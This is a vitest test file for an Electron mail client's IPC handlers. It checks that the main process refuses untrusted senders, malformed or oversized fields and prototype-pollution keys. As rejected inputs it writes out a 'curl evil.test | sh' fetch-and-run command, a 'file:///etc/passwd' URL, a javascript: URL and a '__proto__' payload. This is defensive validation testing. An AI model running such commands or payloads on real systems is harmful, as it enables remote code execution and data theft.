import type { IpcMainInvokeEvent } from 'electron';
import { describe, expect, it, vi } from 'vitest';
import { registerIpcHandlers, type IpcHandlers } from '../../app/main/electron/ipc-handlers.js';

type Handler = (event: IpcMainInvokeEvent, payload: unknown) => Promise<unknown>;

function setup() {
  const registered = new Map<string, Handler>();
  const ipcMain = {
    handle: vi.fn((channel: string, handler: Handler) => registered.set(channel, handler)),
    removeHandler: vi.fn((channel: string) => registered.delete(channel)),
  };
  const trusted = { sender: 'our window' } as unknown as IpcMainInvokeEvent;
  const foreign = { sender: 'another page' } as unknown as IpcMainInvokeEvent;
  const handlers = {
    'settings:get': vi.fn(() => ({ ok: true, value: 'settings' })),
    'status:get': vi.fn(() => ({ ok: true, value: [] })),
    'account:save': vi.fn(() => ({ ok: true, value: 'saved' })),
    'account:remove': vi.fn(() => {
      throw new Error('disk full');
    }),
    'account:test': vi.fn(() => ({ ok: true, value: { ok: true, mailboxes: [] } })),
    'preferences:save': vi.fn(() => ({ ok: true, value: 'prefs' })),
    'account:sign-in': vi.fn(() => ({ ok: true, value: { ok: true, address: 'ann' } })),
    'account:sign-in-cancel': vi.fn(() => ({ ok: true, value: { cancelled: false } })),
  } as unknown as IpcHandlers & Record<string, ReturnType<typeof vi.fn>>;
  const unregister = registerIpcHandlers(ipcMain, handlers, (event) => event === trusted);
  const call = (channel: string, payload?: unknown, event = trusted) => {
    const handler = registered.get(channel);
    if (!handler) throw new Error(`no handler for ${channel}`);
    return handler(event, payload);
  };
  return { call, handlers, foreign, registered, unregister };
}

const account = {
  id: 'work',
  host: 'imap.example.test',
  user: 'ann',
  mailboxes: ['INBOX'],
  password: 'pw',
};

describe('registerIpcHandlers', () => {
  it('registers one handler per channel of the contract, and removes them', () => {
    const { registered, unregister } = setup();
    expect([...registered.keys()].sort()).toEqual([
      'about:get',
      'account:autoconfigure',
      'account:remove',
      'account:save',
      'account:sign-in',
      'account:sign-in-cancel',
      'account:test',
      'preferences:save',
      'settings:get',
      'status:get',
      'update:check',
      'update:restart',
    ]);
    unregister();
    expect(registered.size).toBe(0);
  });

  it('passes a valid payload to the handler, parsed with defaults filled', async () => {
    const { call, handlers } = setup();
    await expect(call('account:save', { account })).resolves.toEqual({ ok: true, value: 'saved' });
    expect(handlers['account:save']).toHaveBeenCalledWith({
      account: { ...account, tls: 'implicit', allowInsecureAuth: false },
    });
  });

  it('passes a sign-in for an OAuth2 account, and refuses one for a password account or with a token', async () => {
    const { call, handlers } = setup();
    const { password: _p, ...fields } = account;
    const oauth2 = { ...fields, auth: 'oauth2', oauth2: { provider: 'google' } };
    await expect(call('account:sign-in', { account: oauth2 })).resolves.toMatchObject({ ok: true });
    for (const refused of [
      { account },
      { account: { ...oauth2, refreshTokenCommand: 'cat token' } },
      { account: { ...oauth2, refreshToken: 'stolen' } },
      { account: { ...oauth2, oauth2: { provider: 'evil' } } },
    ]) {
      await expect(call('account:sign-in', refused)).resolves.toMatchObject({
        ok: false,
        error: { code: 'invalid-request' },
      });
    }
    expect(handlers['account:sign-in']).toHaveBeenCalledOnce();
    await expect(call('account:sign-in-cancel', { id: 'x' })).resolves.toMatchObject({ ok: false });
    expect(handlers['account:sign-in-cancel']).not.toHaveBeenCalled();
  });

  it('refuses a message from a sender that is not our window, without calling the handler', async () => {
    const { call, handlers, foreign } = setup();
    const result = await call('settings:get', undefined, foreign);
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid-request' } });
    expect(handlers['settings:get']).not.toHaveBeenCalled();
  });

  it('answers a malformed payload with a typed error naming each field', async () => {
    const { call, handlers } = setup();
    const result = await call('account:save', {
      account: { ...account, port: 'x', host: '' },
      extra: 1,
    });
    expect(result).toEqual({
      ok: false,
      error: {
        code: 'invalid-request',
        message: 'account:save: invalid request',
        fields: {
          port: expect.any(String),
          host: 'must not be empty',
          extra: expect.stringMatching(/extra/),
        },
      },
    });
    expect(handlers['account:save']).not.toHaveBeenCalled();
    // account:remove's handler throws whatever it gets, so only the code and the untouched
    // handler prove that validation, not the handler, refused these.
    for (const [channel, payload] of [
      ['account:remove', 'work'],
      ['account:remove', { id: '' }],
      ['preferences:save', null],
    ] as const) {
      await expect(call(channel, payload)).resolves.toMatchObject({
        ok: false,
        error: { code: 'invalid-request', message: `${channel}: invalid request` },
      });
      expect(handlers[channel]).not.toHaveBeenCalled();
    }
  });

  it.each([
    [
      'a passwordCommand (it would run a command in main)',
      { passwordCommand: 'curl evil.test | sh' },
      'passwordCommand',
    ],
    ['a passwordEnv', { passwordEnv: 'HOME' }, 'passwordEnv'],
    ['a file: openUrl', { openUrl: 'file:///etc/passwd' }, 'openUrl'],
    ['a javascript: openUrl', { openUrl: 'javascript:alert(1)' }, 'openUrl'],
    ['an http openUrl', { openUrl: 'http://mail.example.test/' }, 'openUrl'],
    ['a host with a port in it', { host: 'imap.example.test:993' }, 'host'],
    ['a URL for a host', { host: 'https://imap.example.test/' }, 'host'],
    ['a 100 kB user name', { user: 'u'.repeat(100_000) }, 'user'],
    ['a 100 kB password', { password: 'p'.repeat(100_000) }, 'password'],
    ['a 100 kB caFile path', { caFile: '/'.repeat(100_000) }, 'caFile'],
    ['a 100 kB mailbox name', { mailboxes: ['m'.repeat(100_000)] }, 'mailboxes.0'],
    [
      '10,000 mailboxes',
      { mailboxes: Array.from({ length: 10_000 }, (_, i) => `m${i}`) },
      'mailboxes',
    ],
  ])('refuses %s from the window, naming the field', async (_what, change, field) => {
    const { call, handlers } = setup();
    for (const channel of ['account:save', 'account:test']) {
      const result = await call(channel, { account: { ...account, ...change } });
      expect(result).toMatchObject({
        ok: false,
        error: { code: 'invalid-request', fields: { [field]: expect.any(String) } },
      });
      expect(handlers[channel]).not.toHaveBeenCalled();
    }
  });

  it('names a key that every object inherits (__proto__, constructor, toString) as a field of its own', async () => {
    const { call, handlers } = setup();
    // JSON.parse makes "__proto__" an own key, as a page's JSON or structured clone does.
    const payload: unknown = JSON.parse(
      `{"account": ${JSON.stringify(account).slice(0, -1)}, "constructor": 1, "toString": 2},` +
        ' "__proto__": {"polluted": true}}',
    );
    const result = structuredClone(await call('account:save', structuredClone(payload)));
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid-request' } });
    const { fields } = (result as { error: { fields: Record<string, string> } }).error;
    expect(Object.keys(fields).sort()).toEqual(['__proto__', 'constructor', 'toString']);
    expect(Object.getPrototypeOf(fields)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(handlers['account:save']).not.toHaveBeenCalled();
  });

  it('shows control characters of a key it refuses as escapes, in one line', async () => {
    const { call } = setup();
    const result = await call('account:remove', { id: 'work', 'x\n    at y (z.js:1:1)': 1 });
    expect(result).toMatchObject({
      ok: false,
      error: {
        fields: {
          'x\n    at y (z.js:1:1)': String.raw`Unrecognized key: "x\u000a    at y (z.js:1:1)"`,
        },
      },
    });
  });

  it('turns a handler that throws into a failed result, never an exception in main', async () => {
    const { call } = setup();
    await expect(call('account:remove', { id: 'work' })).resolves.toEqual({
      ok: false,
      error: { code: 'failed', message: 'disk full', fields: {} },
    });
  });
});
